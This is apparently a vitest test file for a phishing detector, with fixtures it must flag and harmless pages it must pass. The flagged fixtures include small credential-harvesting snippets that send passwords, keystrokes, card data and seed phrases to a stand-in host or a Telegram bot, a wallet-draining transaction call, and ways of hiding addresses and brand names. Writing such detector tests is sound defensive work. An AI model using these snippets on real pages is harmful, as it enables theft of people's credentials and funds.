/** What is held as phishing, and what is not (PUB-37). */
import { readdirSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { expect, test } from 'vitest'
import { findPhishing } from './find-phishing.ts'

const page = (body: string, path = 'index.html') => ({ path, text: `<!doctype html>${body}` })
const kinds = (...files: { path: string; text: string }[]) =>
  findPhishing(files).map(({ kind }) => kind)
const script = (text: string) => ({ path: 'script.js', text })
const password = '<input type="password" id="p"><button>Go</button>'

const held: Record<string, ReturnType<typeof page>[]> = {
  'a brand’s sign-in that posts elsewhere': [
    page(
      `<title>PayPal</title><form action="https://x.example/go" method="post">${password}</form>`,
    ),
  ],
  'the page clean, the script not': [
    page(`<h1>Netflix</h1><form id="f">${password}</form><script src="script.js"></script>`),
    script(`f.onsubmit = () => fetch("https://x.example/", { method: "POST", body: p.value })`),
  ],
  'an address in a constant': [
    page(`<h1>支付宝登录</h1>${password}`),
    script(`const to = "https://x.example/api"; fetch(to, { method: 'POST', body: p.value })`),
  ],
  'a bot in place of a server': [
    page(`<h1>Sign in</h1>${password}`),
    script('fetch(`https://api.telegram.org/bot1:a/sendMessage?text=${p.value}`)'),
  ],
  'a picture that carries it away': [
    page(`<h1>微信安全中心</h1>${password}`),
    script(`new Image().src = "https://x.example/c.gif?p=" + p.value`),
  ],
  'a socket': [
    page(`<h1>Steam Community</h1>${password}`),
    script('const s = new WebSocket("wss://x.example"); s.send(p.value)'),
  ],
  'the words of a wallet': [
    page('<h1>Restore your wallet</h1><p>Enter your 12-word seed phrase</p><textarea></textarea>'),
  ],
  助记词: [page('<h1>导入钱包</h1><label>请输入助记词</label><textarea></textarea>')],
  'a card sent elsewhere': [
    page('<form action="https://x.example/pay"><input name="cardnumber"><input name="cvv"></form>'),
  ],
  身份证号: [page('<form action="https://x.example/"><label>身份证号<input></label></form>')],
  'code that is decoded and run': [script('eval(atob("aGVsbG8="))')],
  'packed code': [script("eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))")],
  'a page written from numbers': [
    script(
      `document.write(String.fromCharCode(${Array.from({ length: 60 }, () => 60).join(',')}))`,
    ),
  ],
  'mangled names all over': [script('var _0x1a2b=[];'.repeat(60))],
  'a wallet emptied for an airdrop': [
    page('<h1>Claim your airdrop</h1><button>Connect</button>'),
    script('window.ethereum.request({ method: "eth_sendTransaction", params: [] })'),
  ],
  'no form at all: keys that are listened to': [
    page('<div class="logo">Instagram</div><p>Password</p><div contenteditable></div>'),
    script(
      'addEventListener("keydown", (e) => { keys += e.key; fetch("https://x.example/k", { method: "POST", body: keys }) })',
    ),
  ],
  'an address in pieces': [
    page(`<h1>Microsoft</h1>${password}`),
    script(
      `const to = "ht" + "tps:" + "//x.ex" + "ample"; fetch(to, { method: "POST", body: p.value })`,
    ),
  ],
  'an address in a list': [
    page(`<h1>Netflix</h1>${password}`),
    script(`fetch(["https:", "", "x.example"].join("/"), { method: "POST", body: p.value })`),
  ],
  'an address in base64': [
    page(`<h1>Netflix</h1>${password}`),
    script(`fetch(atob("aHR0cHM6Ly94LmV4YW1wbGUvYw=="), { method: "POST", body: p.value })`),
  ],
  'an address backwards': [
    page(`<h1>Netflix</h1>${password}`),
    script(`fetch("elpmaxe.x//:sptth".split("").reverse().join(""), { method: "POST" })`),
  ],
  'an address backwards, turned in another way': [
    page(`<h1>Netflix</h1>${password}`),
    script(
      `const a = "elpmaxe.x//:sptth"; f.action = Array.from(a).reverse().join(""); f.submit()`,
    ),
  ],
  'a frame that a script makes': [
    page('<title>DocuSign: sign in</title>'),
    script(`const f = document.createElement('iframe'); f.src = s + '://' + host`),
  ],
  'a Chinese page in percent signs': [
    script(
      `const c = '%3C%68%31%3E%E4%BA%AC%E4%B8%9C%3Cinput type="password"%3E'; document.body.innerHTML = decodeURIComponent(c); fetch("https://x.example", { method: "POST", body: n.value })`,
    ),
  ],
  'a page in base64': [script(`document.body.innerHTML = decode("PGZvcm0+PGlucHV0Pg==")`)],
  'a name in pieces': [
    page(`<h1><b>Pay</b><i>Pal</i></h1><form action="//x.example">${password}</form>`),
  ],
  'a name with signs that nobody sees': [
    page(`<h1>Net&#8203;flix</h1><form action="//x.example">${password}</form>`),
  ],
  'a name in wide letters': [page(`<h1>𝐏𝐚𝐲𝐏𝐚𝐥</h1><form action="//x.example">${password}</form>`)],
  'a digit for a letter': [page('<title>Micr0soft account</title><input>')],
  'a capital i for an l': [page('<title>PayPaI</title><input>')],
  'a foreign sign-in in a frame': [
    page('<title>Outlook</title><p>Sign in</p><iframe src="https://x.example/login"></iframe>'),
  ],
  中国移动: [
    page(`<h1>中国移动 积分兑换 登录</h1><form action="https://x.example">${password}</form>`),
  ],
  验证码: [
    page('<h1>建设银行</h1><label>短信验证码<input></label>'),
    script('fetch("https://x.example", { method: "POST", body: code.value })'),
  ],
  'a name in letters that only look so': [page('<title>Рауpal sign in</title><input>')],
}

test.each(Object.entries(held))('held: %s: threat T42 [PUB-37]', (_name, files) => {
  expect(kinds(...files)).not.toEqual([])
})

const harmless: Record<string, ReturnType<typeof page>[]> = {
  'a sign-in exercise that goes nowhere': [
    page(`<h1>Login form</h1><form onsubmit="return false">${password}</form>`),
  ],
  'an own account with a server of its own': [
    page(`<h1>Team notes</h1><form action="/login" method="post">${password}</form>`),
  ],
  'a password generator': [
    page('<h1>Password generator</h1><input id="out" readonly><input type="range">'),
    script('const a = new Uint32Array(8); crypto.getRandomValues(a); out.value = [...a].join("")'),
  ],
  'a strength meter': [
    page(`<h1>How strong is it?</h1>${password}`),
    script('p.oninput = () => {}'),
  ],
  'prices of coins': [
    page('<h1>Crypto prices</h1><ul></ul><input type="search" placeholder="Coinbase, Binance">'),
    script('fetch("https://api.example/prices").then((r) => r.json())'),
  ],
  'a contact form of a portfolio': [
    page(
      '<h1>Write to me</h1><form action="https://formspree.io/f/x" method="post"><input name="mail"><textarea></textarea></form><a href="https://www.linkedin.com/in/x">LinkedIn</a>',
    ),
  ],
  'the landing page of a brand, without a form': [
    page('<title>Apple</title><h1>iPhone</h1><a href="https://apple.com">Buy</a>'),
  ],
  'an explanation of seed phrases': [
    page('<h1>What is a seed phrase?</h1><p>24-word lists, explained.</p><ol></ol>'),
  ],
  'a budget that reads rates elsewhere': [
    page('<h1>Budget</h1><label>Card number<input></label>'),
    script('fetch("https://rates.example/latest").then((r) => r.json())'),
  ],
  'a sign-in exercise that names Google and reads the weather': [
    page(`<h1>Sign in with Google</h1>${password}`),
    script('fetch("https://weather.example/now").then((r) => r.json())'),
  ],
  'a tool for base64': [
    page('<h1>Base64</h1><textarea></textarea><output></output>'),
    script('output.value = atob(input.value)'),
  ],
  'a playground for code': [page('<textarea></textarea>'), script('eval(area.value)')],
  'a tester of patterns': [script('const run = new Function("x", "return " + body.value)')],
  'a picture in the code': [
    script(`document.body.style.background = "url(data:image/png;base64,${'A'.repeat(900)})"`),
  ],
  'small code of a library': [script(`var a=1,b=2;${'function c(d){return d+a};'.repeat(200)}`)],
  'a quiz about Cyrillic letters': [page('<h1>Русский алфавит for beginners</h1><input>')],
  'a shop exercise that pays nowhere': [
    page('<h1>Checkout</h1><input placeholder="Card number"><input placeholder="CVV">'),
  ],
}

test.each(Object.entries(harmless))('not held: %s [PUB-37]', (_name, files) => {
  expect(findPhishing(files)).toEqual([])
})

test('no starter is held, in either language [PUB-37]', () => {
  const folder = resolve(import.meta.dirname, '../../../../starters')
  const ids = readdirSync(folder, { withFileTypes: true })
    .filter((entry) => entry.isDirectory())
    .map(({ name }) => name)
  expect(ids.length).toBeGreaterThan(40)
  const found = ids.flatMap((id) => {
    const texts = readdirSync(join(folder, id))
      .filter((path) => /\.(?:html|js|svg)$/.test(path))
      .map((path) => ({ path, text: readFileSync(join(folder, id, path), 'utf8') }))
    return findPhishing(texts).map(({ kind, path }) => `${id}/${path}: ${kind}`)
  })
  expect(found).toEqual([])
})

test('hostile text is looked through in a time that grows with it and no faster', () => {
  const hostile = ['<script', 'action="', 'a'.repeat(9), '"A', 'fetch( ', 'Рa', '<h1 ', 'eval( ']
  for (const part of hostile) {
    const timeOf = (length: number): number => {
      const text = part.repeat(Math.ceil(length / part.length))
      const before = process.cpuUsage().user
      findPhishing([{ path: 'index.html', text }])
      return process.cpuUsage().user - before
    }
    timeOf(200_000)
    const [once, eightTimes] = [timeOf(200_000), timeOf(1_600_000)]
    // Squares would be 64 times as much.
    expect({ part, grows: eightTimes < 24 * once + 400_000 }).toEqual({ part, grows: true })
  }
})
